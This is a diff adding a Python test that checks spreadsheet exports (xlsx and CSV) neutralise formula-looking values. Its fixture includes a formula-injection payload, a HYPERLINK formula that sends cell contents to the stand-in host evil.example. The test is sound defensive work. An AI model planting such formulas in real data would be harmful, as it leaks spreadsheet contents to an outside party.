@@ -198,3 +198,18 @@ def test_a_canned_query_downloads_like_its_csv_result(client: TestClient) -> Non
     sheet = load_workbook(io.BytesIO(client.get(url + "&download=xlsx").content)).active
     cells = [["" if c is None else str(c) for c in row] for row in sheet.iter_rows(values_only=True)]
     assert cells == plain
+
+
+def test_a_text_that_looks_like_a_formula_stays_a_text() -> None:
+    """A label like '=HYPERLINK(…)' (the graph takes writes) must not run as a formula in the spreadsheet."""
+    from k2020graph.server.tables import Table, to_csv, to_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
+    table = Table("t", ["navn", "=1+1"], [[evil, "+47 22 00 00 00"], ["@SUM(A1)", "-3"]])
+    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
+    assert sheet["A2"].value == evil and sheet["A2"].data_type == "s"
+    assert sheet["B1"].value == "=1+1" and sheet["B1"].data_type == "s"
+    excel = list(csv.reader(io.StringIO(to_csv(table, ";").decode("utf-8-sig")), delimiter=";"))
+    assert excel == [["navn", "'=1+1"], ["'" + evil, "'+47 22 00 00 00"], ["'@SUM(A1)", "-3"]]
+    plain = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))  # for programs: the texts as they are
+    assert plain[1] == [evil, "+47 22 00 00 00"]
